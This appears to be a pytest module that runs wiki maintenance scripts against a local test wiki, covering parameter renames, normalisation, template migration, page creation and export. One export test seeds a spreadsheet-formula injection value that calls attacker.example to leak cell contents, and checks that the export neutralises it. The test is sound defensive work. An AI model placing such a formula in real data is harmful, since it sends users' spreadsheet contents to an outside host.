"""The maintenance scripts against the local wiki, run as a user would.

Every page these tests change is their own, under User:Maint test/ (the infobox
adds no category there, and the bots read partnership pages from the main
namespace only), so the seeded pages stay as seeded for the other tests. Each
script is restricted to those pages with -prefixindex:, except in the runs that
only simulate. For each script: the intended change happens, every other byte of
each page is the same, -simulate saves nothing, and a second run saves nothing.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from scripts.devwiki import PROJECT_DIR
from tests.live import create_race
from tests.live.conftest import LiveWiki, output, started_wiki
from tests.seedpages import has_infobox

ROOT = "User:Maint test"


def put_pages(wiki: LiveWiki, pages: dict[str, str]) -> dict[str, str]:
    """Save the pages and return their texts as the wiki stores them (trailing whitespace trimmed)."""
    for title, text in pages.items():
        wiki.api.edit(title, text)
    return {title: wiki.api.text(title) for title in pages}


def revids(wiki: LiveWiki, titles: list[str]) -> dict[str, int]:
    return {title: wiki.api.revid(title) for title in titles}


def run(wiki: LiveWiki, module: str, *args: str, expect_exit: int = 0) -> str:
    result = wiki.run(module, *args)
    text = output(result)
    assert result.returncode == expect_exit, text
    return text


def simulate(wiki: LiveWiki, titles: list[str], module: str, *args: str, expect_exit: int = 0) -> str:
    """Run with -simulate and check that no page changed."""
    before = revids(wiki, titles)
    text = run(wiki, module, "-simulate", "-always", *args, expect_exit=expect_exit)
    assert revids(wiki, titles) == before
    return text


def replace_all(text: str, pairs: list[tuple[str, str]]) -> str:
    for old, new in pairs:
        assert old in text, old
        text = text.replace(old, new)
    return text


# --- rename_parameter --------------------------------------------------------------------------

RENAME = f"{ROOT}/rename/"
RENAME_PAGES = {
    f"{RENAME}Aligned": (
        "Volunteers' intro, with {{Other|org=not an infobox}}.\n"
        "{{Partnership\n"
        "| name    = Maint rename aligned\n"
        "| org     = Kiwix\n"
        "| type    = content\n"
        "| lead    = volunteers\n"
        "| status  = active\n"
        "}}\n"
        "Text after the infobox: org = stays.\n"
    ),
    f"{RENAME}Merge": (
        "{{Partnership\n|name=Maint rename merge\n|partner=Orange; Kiwix\n|org=Kiwix;Telenor\n|type=content\n}}\n"
    ),
    f"{RENAME}Conflict": (
        "{{Partnership\n"
        "| name    = Maint rename conflict\n"
        "| partner = Orange <!-- confirmed by the chapter -->\n"
        "| org     = Kiwix\n"
        "}}\n"
    ),
    f"{RENAME}Nothing to do": "{{Partnership\n| name = Maint rename nothing\n| partner = Kiwix\n}}\n",
}


def test_rename_parameter(wiki: LiveWiki) -> None:
    seeded = put_pages(wiki, RENAME_PAGES)
    titles = list(RENAME_PAGES)
    aligned, merge, conflict, nothing = titles
    args = ("-from:org", "-to:partner", f"-prefixindex:{RENAME}")
    text = simulate(wiki, titles, "scripts.rename_parameter", *args, expect_exit=1)
    assert "4 pages read, 2 would be saved (simulation)" in text
    assert "partner = Kiwix" in text  # the diff

    text = run(wiki, "scripts.rename_parameter", "-always", *args, expect_exit=1)
    assert wiki.api.text(aligned) == replace_all(seeded[aligned], [("| org     = Kiwix", "| partner = Kiwix")])
    assert wiki.api.text(merge) == replace_all(
        seeded[merge], [("|partner=Orange; Kiwix\n|org=Kiwix;Telenor\n", "|partner=Orange; Kiwix; Telenor\n")]
    )
    assert wiki.api.text(conflict) == seeded[conflict]
    assert wiki.api.text(nothing) == seeded[nothing]
    assert (
        f"[[{conflict}]] partner: Both partner = “Orange” and org = “Kiwix” are given and a value holds markup"
    ) in text
    assert "4 pages read, 2 saved" in text

    before = revids(wiki, titles)
    text = run(wiki, "scripts.rename_parameter", "-always", *args, expect_exit=1)
    assert revids(wiki, titles) == before
    assert "4 pages read, 0 saved" in text


def test_rename_parameter_single_value_conflict_and_options(wiki: LiveWiki) -> None:
    title = f"{ROOT}/rename-single/Status"
    seeded = put_pages(wiki, {title: "{{Partnership\n| status = active\n| state  = ended\n}}"})
    text = run(
        wiki, "scripts.rename_parameter", "-from:state", "-to:status", f"-page:{title}", "-always", expect_exit=1
    )
    assert f"[[{title}]] status: Both status = “active” and state = “ended” are given and the values differ" in text
    assert wiki.api.text(title) == seeded[title]
    assert "-from:OLD -to:NEW" in run(wiki, "scripts.rename_parameter", "-from:state", expect_exit=2)
    assert "Examples:" in run(wiki, "scripts.rename_parameter", "--help")


# --- normalise ---------------------------------------------------------------------------------

NORMALISE = f"{ROOT}/normalise/"
#: The page of the pure test (tests/test_maintenance.py), and what normalise makes of it.
MESSY = (PROJECT_DIR / "tests" / "data" / "normalise" / "messy.wikitext").read_text(encoding="utf-8")
NORMALISED = (PROJECT_DIR / "tests" / "data" / "normalise" / "normalised.wikitext").read_text(encoding="utf-8")
CLEAN = """{{Partnership
| name   = Maint normalise clean
| type   = content, technology
| status = active
}}"""


def test_normalise(wiki: LiveWiki) -> None:
    pages = {f"{NORMALISE}Messy": MESSY, f"{NORMALISE}Clean": CLEAN}
    seeded = put_pages(wiki, pages)
    messy, clean = list(pages)
    args = (f"-prefixindex:{NORMALISE}",)
    # A value left as written (the status with a comment) is reported, and makes the exit code 1.
    text = simulate(wiki, [messy, clean], "scripts.normalise", *args, expect_exit=1)
    assert "2 pages read, 1 would be saved (simulation)" in text

    text = run(wiki, "scripts.normalise", "-always", *args, expect_exit=1)
    assert seeded[messy] == MESSY.rstrip("\n")  # the wiki trims the end only
    assert wiki.api.text(messy) == NORMALISED.rstrip("\n")
    assert wiki.api.text(clean) == seeded[clean]
    assert f"[[{messy}]] status: “Ongoing <!-- as of 2011 -->” holds markup" in text
    assert "2 pages read, 1 saved" in text

    before = revids(wiki, [messy, clean])
    text = run(wiki, "scripts.normalise", "-always", *args, expect_exit=1)
    assert revids(wiki, [messy, clean]) == before
    assert "2 pages read, 0 saved" in text
    text = run(wiki, "scripts.normalise", "-always", f"-page:{clean}")  # nothing left to report: exit 0
    assert "1 pages read, 0 saved" in text and "0 warnings" in text


NORMALISE_SAMPLE = "^Partnerships/(Example:|PediaPress books|Orange free mobile access)"


def test_normalise_simulated_over_the_partnership_pages_saves_nothing(
    wiki: LiveWiki, seed: list[dict[str, Any]]
) -> None:
    """With no page option, the pages are those that use the infobox (a filter still applies to them).

    Only the examples (with their deliberate mistakes) and two real pages that use synonyms are
    read, to keep the run short.
    """
    selection = re.compile(NORMALISE_SAMPLE)
    titles = [p["title"] for p in seed if has_infobox(p["text"]) and selection.match(p["title"])]
    assert len(titles) > 5
    text = simulate(wiki, titles, "scripts.normalise", f"-titleregex:{NORMALISE_SAMPLE}", expect_exit=1)
    counts = re.search(r"(\d+) pages read, (\d+) would be saved \(simulation\)", text)
    assert counts is not None, text
    assert int(counts.group(1)) >= len(titles) and int(counts.group(2)) > 0
    assert "[[Partnerships/Example: Unknown type]] type: “telepathy” is not a known type" in text


# --- migrate -----------------------------------------------------------------------------------

MIGRATE = f"{ROOT}/migrate/"
OLD_TEMPLATE = """Intro.
{{Partner project
| title        = Maint Wikipedia Loves Libraries
| organisation = Public libraries
| kind         = outreach
| led by       = volunteers
| state        = active
| image        = Library.jpg
}}
Wikipedia Loves Libraries is a series of events.
"""
TABLE = """Partnerships we know of:
{| class="wikitable sortable"
! Partnership !! Partner !! Type !! Lead !! Status !! Year !! Notes
|-
| Maint Alpha Library || Alpha || content || volunteers || active || 2010 || first
|-
| Maint Beta || Beta Org || telepathy || volunteers || active || 2011 ||
|}
After the table."""


def test_migrate(wiki: LiveWiki, tmp_path: Path) -> None:
    mapping = tmp_path / "mapping.yaml"
    example = (PROJECT_DIR / "config" / "migrate-example.yaml").read_text(encoding="utf-8")
    mapping.write_text(replace_all(example, [('"Partnerships/{name}"', f'"{MIGRATE}new/{{name}}"')]))
    pages = {f"{MIGRATE}Old": OLD_TEMPLATE, f"{MIGRATE}List": TABLE}
    seeded = put_pages(wiki, pages)
    old, table = list(pages)
    new_page, invalid_page = f"{MIGRATE}new/Maint Alpha Library", f"{MIGRATE}new/Maint Beta"
    watched = [old, table, new_page, invalid_page]
    args = (f"-mapping:{mapping}", f"-prefixindex:{MIGRATE}")
    text = simulate(wiki, watched, "scripts.migrate", *args, expect_exit=1)
    assert "2 pages read, 1 would be saved (simulation)" in text
    assert "Tables: 2 rows, 1 invalid (not created, listed above), 1 pages would be saved (simulation)" in text

    text = run(wiki, "scripts.migrate", "-always", *args, expect_exit=1)
    assert wiki.api.text(old) == replace_all(
        seeded[old],
        [
            ("{{Partner project\n", "{{Partnership\n"),
            ("| title        =", "| name         ="),
            ("| organisation =", "| partner      ="),
            ("| kind         =", "| type         ="),
            ("| led by       =", "| lead         ="),
            ("| state        =", "| status       ="),
            ("| image        = Library.jpg\n", ""),
        ],
    )
    assert wiki.api.text(table) == seeded[table]
    assert wiki.api.text(new_page) == (
        "{{Partnership\n| name    = Maint Alpha Library\n| partner = Alpha\n| type    = content\n"
        "| lead    = volunteers\n| status  = active\n| start   = 2010\n}}"
    )
    assert wiki.api.revid(invalid_page) == 0
    assert f"[[{table}]], table 1, row 2 type: “telepathy” is not a known type" in text

    before = revids(wiki, watched)
    text = run(wiki, "scripts.migrate", "-always", *args, expect_exit=1)
    assert revids(wiki, watched) == before
    assert "3 pages read, 0 saved" in text  # the new page is under the prefix too
    assert "0 pages saved, 1 exist already (not overwritten)" in text


def test_migrate_mapping_error_names_file_and_line(wiki: LiveWiki, tmp_path: Path) -> None:
    mapping = tmp_path / "bad.yaml"
    mapping.write_text("templates:\n  Old:\n    parameters:\n      org: partnr\n")
    text = run(wiki, "scripts.migrate", f"-mapping:{mapping}", expect_exit=2)
    assert f"{mapping}, line 4: templates.Old.parameters.org: 'partnr' is not a parameter" in text


# --- create_pages ------------------------------------------------------------------------------

CREATE = f"{ROOT}/create/"


def test_create_pages(wiki: LiveWiki, tmp_path: Path) -> None:
    existing = f"{CREATE}Maint existing"
    seeded = put_pages(wiki, {existing: "A volunteer's page that is not to be overwritten."})
    rows = tmp_path / "rows.csv"
    rows.write_text(
        "name,partner,type,lead,status,start\n"
        'Maint created one,Kiwix; Orange,"content, technology",volunteers,active,2009\n'
        "Maint invalid,,telepathy,volunteers,active,spring 2010\n"
        "Maint existing,Someone,content,volunteers,active,2010\n"
        "Afripedia,Kiwix,content,volunteers,active,2012\n",
        encoding="utf-8",
    )
    created = f"{CREATE}Maint created one"
    watched = [created, f"{CREATE}Maint invalid", existing, f"{CREATE}Afripedia"]
    args = (f"-file:{rows}", f"-title:{CREATE}{{name}}")
    text = simulate(wiki, watched, "scripts.create_pages", *args, expect_exit=1)
    assert "1 pages would be saved (simulation)" in text

    text = run(wiki, "scripts.create_pages", "-always", *args, expect_exit=1)
    assert wiki.api.text(created) == (
        "{{Partnership\n| name    = Maint created one\n| partner = Kiwix; Orange\n| type    = content, technology\n"
        "| lead    = volunteers\n| status  = active\n| start   = 2009\n}}"
    )
    assert wiki.api.text(existing) == seeded[existing]
    assert wiki.api.revid(f"{CREATE}Maint invalid") == 0
    assert wiki.api.revid(f"{CREATE}Afripedia") == 0
    assert f"{rows}, line 3 type: “telepathy” is not a known type" in text
    assert f"{rows}, line 3 start: “spring 2010” is not a date" in text
    assert f"{rows}, line 3 partner: partner is missing: it is required." in text
    assert (
        f"{rows}, line 5 ({CREATE}Afripedia) name: name “Afripedia” is already used "
        "by the page “Partnerships/Afripedia”"
    ) in text
    assert "4 rows, 2 invalid (not created, listed above), 1 pages saved, 1 exist already (not overwritten)" in text

    before = revids(wiki, watched)
    text = run(wiki, "scripts.create_pages", "-always", *args, expect_exit=1)
    assert revids(wiki, watched) == before
    assert "0 pages saved, 2 exist already (not overwritten)" in text
    text = run(wiki, "scripts.create_pages", *args, f"-page:{existing}", expect_exit=2)
    assert "the pages to create are the rows of -file:, so page generator options do not apply" in text


def test_create_pages_never_overwrites_a_page_created_after_the_check(wiki: LiveWiki) -> None:
    """The save is create-only: a volunteer who creates the page between the bot's check and its save wins."""
    title = f"{CREATE}Raced"
    assert wiki.api.revid(title) == 0
    text = run(wiki, "tests.live.create_race", wiki.dev.api_url, title)
    assert wiki.api.text(title) == create_race.VOLUNTEER_TEXT
    assert f"Edit conflict on [[{title}]]" in text and f"[[{title}]] exists already; not overwritten." in text
    assert "write=0 exists=1 refused=0" in text


# --- export, and the round trip through an empty wiki --------------------------------------------


@pytest.fixture(scope="module")
def empty_wiki(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveWiki]:
    with started_wiki(tmp_path_factory.mktemp("emptywiki"), empty=True) as live:
        yield live


#: Five partnerships that between them fill every field of the schema: single values and lists,
#: yes and no, dates of a year, a month and a day. The test checks that they still do.
ROUND_TRIP_PAGES = [
    "Partnerships/Example: Led by a partner",  # the only valid page with a website
    "Partnerships/Bundesarchiv image donation",
    "Partnerships/Google Translator Toolkit",
    "Partnerships/BnF texts for Wikisource",
    "Partnerships/Google unrestricted grant",
]


def test_export_create_export_round_trip(wiki: LiveWiki, empty_wiki: LiveWiki, tmp_path: Path) -> None:
    first_csv, first_json = tmp_path / "first.csv", tmp_path / "first.json"
    pages = [f"-page:{title}" for title in ROUND_TRIP_PAGES]
    text = run(wiki, "scripts.export", f"-csv:{first_csv}", f"-json:{first_json}", *pages)
    assert f"{len(ROUND_TRIP_PAGES)} records exported." in text
    rows = list(csv.DictReader(io.StringIO(first_csv.read_text(encoding="utf-8"))))
    assert [row["title"] for row in rows] == sorted(ROUND_TRIP_PAGES)
    assert [column for column in rows[0] if not any(row[column] for row in rows)] == [], "every field is filled"
    for yesno in ("best_practice", "critical"):
        assert {row[yesno] for row in rows} >= {"yes", "no"}
    assert any(";" in row["partner"] for row in rows) and any("," in row["type"] for row in rows)
    assert {len(row["start"]) for row in rows} >= {4, 7, 10}

    assert empty_wiki.api.revid(ROUND_TRIP_PAGES[0]) == 0
    run(empty_wiki, "scripts.install_templates", "-always")
    text = run(empty_wiki, "scripts.create_pages", f"-file:{first_csv}", "-always")
    assert "5 rows, 0 invalid (not created, listed above), 5 pages saved" in text

    second_csv, second_json = tmp_path / "second.csv", tmp_path / "second.json"
    text = run(empty_wiki, "scripts.export", f"-csv:{second_csv}", f"-json:{second_json}")
    assert "5 records exported." in text
    assert second_csv.read_text(encoding="utf-8") == first_csv.read_text(encoding="utf-8")
    assert second_json.read_text(encoding="utf-8") == first_json.read_text(encoding="utf-8")

    # The JSON export reads back too: every page is there already, so nothing is saved.
    text = run(empty_wiki, "scripts.create_pages", f"-file:{first_json}", "-always")
    assert "5 rows, 0 invalid (not created, listed above), 0 pages saved, 5 exist already" in text


def test_export_keeps_formulas_from_running_and_its_files_private(wiki: LiveWiki, tmp_path: Path) -> None:
    """A value starting like a spreadsheet formula gets a ' in the CSV and is exact in the JSON; mode 600."""
    title = f"{ROOT}/export/Formula"
    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
    put_pages(
        wiki,
        {
            title: "{{Partnership\n| name = -Formula\n| partner = " + formula + "; @Other\n| type = content\n"
            "| lead = volunteers\n| status = active\n| description = +1 for this\n}}\n"
        },
    )
    csv_file, json_file = tmp_path / "formula.csv", tmp_path / "formula.json"
    csv_file.write_text("an older export, readable and writable by anyone\n")
    csv_file.chmod(0o666)
    text = run(wiki, "scripts.export", f"-csv:{csv_file}", f"-json:{json_file}", f"-page:{title}")
    assert "1 records exported." in text
    [row] = list(csv.DictReader(io.StringIO(csv_file.read_text(encoding="utf-8"))))
    assert (row["name"], row["partner"], row["description"]) == ("'-Formula", f"'{formula}; @Other", "'+1 for this")
    [record] = json.loads(json_file.read_text(encoding="utf-8"))
    assert (record["name"], record["partner"], record["description"]) == (
        "-Formula",
        [formula, "@Other"],
        "+1 for this",
    )
    umask = os.umask(0o077)
    os.umask(umask)
    assert {stat.S_IMODE(path.stat().st_mode) for path in (csv_file, json_file)} == {0o600 & ~umask}


def test_export_needs_a_target(wiki: LiveWiki) -> None:
    text = run(wiki, "scripts.export", expect_exit=2)
    assert "-csv:FILE, -json:FILE or both" in text


def test_export_that_cannot_write_its_file_exits_1(wiki: LiveWiki, tmp_path: Path) -> None:
    target = tmp_path / "no such folder" / "out.csv"
    text = run(wiki, "scripts.export", f"-csv:{target}", f"-page:{ROUND_TRIP_PAGES[0]}", expect_exit=1)
    assert f"{target}: cannot write: No such file or directory" in text
